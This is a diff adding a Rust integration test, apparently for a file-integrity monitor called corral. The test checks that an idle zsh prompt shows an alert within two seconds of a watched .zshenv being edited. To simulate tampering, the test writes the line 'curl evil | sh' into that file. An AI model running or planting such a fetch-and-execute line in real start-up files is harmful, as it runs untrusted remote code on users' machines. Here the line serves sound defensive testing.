@@ -326,3 +326,49 @@ fn readme_zsh_prompts_work_as_written() {
 fn readme_bash_prompts_work_as_written() {
     readme_prompts_work("bash");
 }
+
+/// An idle zsh learns of an edited start-up file from the server: the
+/// alert appears without a keypress, within two seconds of the edit.
+#[test]
+fn an_idle_zsh_shows_the_alert_when_a_watched_file_changes() {
+    if !available(&["tmux", "zsh"]) {
+        return;
+    }
+    let fixture = Fixture::new();
+    let watched = fixture.write("watched/.zshenv", "export A=1\n");
+    fixture.manifest(&format!(
+        "[[task]]\nid = \"integrity_scan\"\nrationale = \"t\"\ncomponent = {:?}\nargs = [\"/watched/.zshenv\", \"/state/baseline.sha256\"]\n[[task.file]]\nhost = {:?}\nguest = \"/watched/.zshenv\"\n[[task.dir]]\nhost = \".corral/integrity\"\nguest = \"/state\"\nmode = \"rw\"\n",
+        artifacts::INTEGRITY_SCAN,
+        watched.display().to_string()
+    ));
+    // The baseline, taken before the shell starts.
+    assert_eq!(fixture.corral(&["run", "--quiet"]).code, Some(0));
+    let snippet = fixture.corral(&["shell-init", "zsh", "--manifest", "manifest.toml"]);
+    let path = fixture.write("corral.zsh", &snippet.stdout);
+    let rc = format!(
+        "source {}\nsetopt prompt_subst\nPROMPT='[${{corral_alert:-no alert}}] READY> '\n",
+        shell_quote(&path.display().to_string())
+    );
+    let rc_path = fixture.write(".zshrc", rc);
+    let tmux = interactive_shell(fixture.path(), "zsh", &rc_path, LIMIT);
+    // The shell follows once its server is up (started at its first prompt).
+    let runtime = fixture.path().join(".run");
+    crate::terminal::eventually(LIMIT, "the server", || {
+        runtime.join("corral/serve.sock").exists()
+    });
+    tmux.send(&["Enter"]);
+    tmux.wait_for(LIMIT, "a clean prompt", |screen| {
+        newest_prompt(screen).starts_with("[no alert] READY>")
+    });
+    std::thread::sleep(Duration::from_millis(300));
+    std::fs::write(&watched, "export A=1\ncurl evil | sh\n").unwrap();
+    let edited = std::time::Instant::now();
+    tmux.wait_for(LIMIT, "the alert, with no keypress", |screen| {
+        newest_prompt(screen).starts_with("[corral: watched files changed")
+    });
+    assert!(
+        edited.elapsed() < Duration::from_secs(2),
+        "the alert came {:?} after the edit",
+        edited.elapsed()
+    );
+}
